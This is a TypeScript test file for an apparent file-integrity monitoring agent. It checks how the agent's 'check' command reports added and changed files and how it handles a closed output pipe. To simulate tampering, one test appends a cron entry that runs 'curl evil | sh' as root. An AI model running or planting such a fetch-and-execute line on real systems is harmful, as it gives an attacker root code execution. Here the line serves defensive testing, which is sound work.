import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { appendFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { loadAgentConfig } from '../../../agent/config.ts';
import { createChecks, REPORTED_STATE_FILE } from '../../../agent/monitor/check-runner.ts';
import { MeasuredState } from '../../../agent/monitor/measured-state.ts';
import { systemClock } from '../../../shared/clock.ts';
import { silentLogger } from '../../../shared/log.ts';
import { writeFilePrivate } from '../../../shared/secure-file.ts';
import { agentCli, agentCommand, ROOT } from '../../helpers/cluster.ts';
import { tempDir } from '../../helpers/temp.ts';

type Out = { findings: { kind: string; subject: string; detail: string }[]; digest: string };

test('check --json: exit 0 against the reported state when nothing changed, exit 1 with the findings when something did', async () => {
  const d = tempDir('tw-check-');
  const w = join(d, 'w');
  mkdirSync(w);
  writeFileSync(join(w, 'job'), '* * * * * root true\n');
  const state = join(d, 'state');
  mkdirSync(state, { mode: 0o700 });
  const config = join(d, 'agent.yml');
  writeFileSync(config, `server: wss://127.0.0.1:1\nstateDir: ${state}\ndefaults: false\nports: false\ndaemons: []\nwatch:\n  - { path: ${w} }\n`);

  // With nothing reported yet, everything is new.
  const first = agentCli(['check', '--config', config, '--json']);
  assert.equal(first.code, 1, first.stderr);
  assert.ok((JSON.parse(first.stdout) as Out).findings.some((f) => f.kind === 'file-added' && f.subject === join(w, 'job')));

  // What the running agent keeps after each report: the measured state, 0600 in the state dir.
  const cfg = loadAgentConfig(config);
  const { checks, hasher } = await createChecks(
    { cfg, configPath: config, clock: systemClock, log: silentLogger(), selfPath: process.env.TRIPWARDEN_AGENT_EXE ?? join(ROOT, 'agent/main.ts') },
    false,
  );
  const s = new MeasuredState();
  for (const c of checks) for (const it of await c.measure()) s.set(it.kind, it.key, it.value);
  await hasher.close();
  writeFilePrivate(join(state, REPORTED_STATE_FILE), JSON.stringify(s.toJSON()));

  const same = agentCli(['check', '--config', config, '--json']);
  assert.equal(same.code, 0, same.stdout + same.stderr);
  assert.deepEqual((JSON.parse(same.stdout) as Out).findings, []);
  assert.equal((JSON.parse(same.stdout) as Out).digest, s.digest());

  appendFileSync(join(w, 'job'), '* * * * * root curl evil | sh\n');
  writeFileSync(join(w, 'new'), 'x');
  const changed = agentCli(['check', '--config', config, '--json']);
  assert.equal(changed.code, 1);
  const kinds = (JSON.parse(changed.stdout) as Out).findings.map((f) => `${f.kind} ${f.subject}`).sort();
  assert.deepEqual(kinds, [`file-added ${join(w, 'new')}`, `file-changed ${join(w, 'job')}`]);

  const text = agentCli(['check', '--config', config]);
  assert.equal(text.code, 1);
  assert.match(text.stdout, /^file-changed\t.*\/w\/job\tsha256,size,mtime,ctime$/m);
});

test('check | head: a reader that goes away ends check quietly, with no EPIPE stack', async () => {
  const d = tempDir('tw-check-');
  const w = join(d, 'w');
  mkdirSync(w);
  for (let i = 0; i < 2000; i++) writeFileSync(join(w, `f${i}`), `${i}\n`);
  mkdirSync(join(d, 'state'), { mode: 0o700 });
  const config = join(d, 'agent.yml');
  writeFileSync(config, `server: wss://127.0.0.1:1\nstateDir: ${join(d, 'state')}\ndefaults: false\nports: false\ndaemons: []\nwatch:\n  - { path: ${w}, recursive: true }\n`);
  const a = agentCommand();
  const child = spawn(a.cmd, [...a.args, 'check', '--config', config], { cwd: ROOT, stdio: ['ignore', 'pipe', 'pipe'] });
  let stderr = '';
  child.stderr.on('data', (c: Buffer) => {
    stderr += c.toString();
  });
  // `head -1`: read the first line, then close the pipe while check still has ~2,000 lines to write.
  await new Promise<void>((resolve) => child.stdout.once('data', () => resolve()));
  child.stdout.destroy();
  const code = await new Promise<number | null>((resolve) => child.on('exit', (c) => resolve(c)));
  assert.equal(stderr, '');
  assert.equal(code, 1, 'the findings still decide the exit status');
});
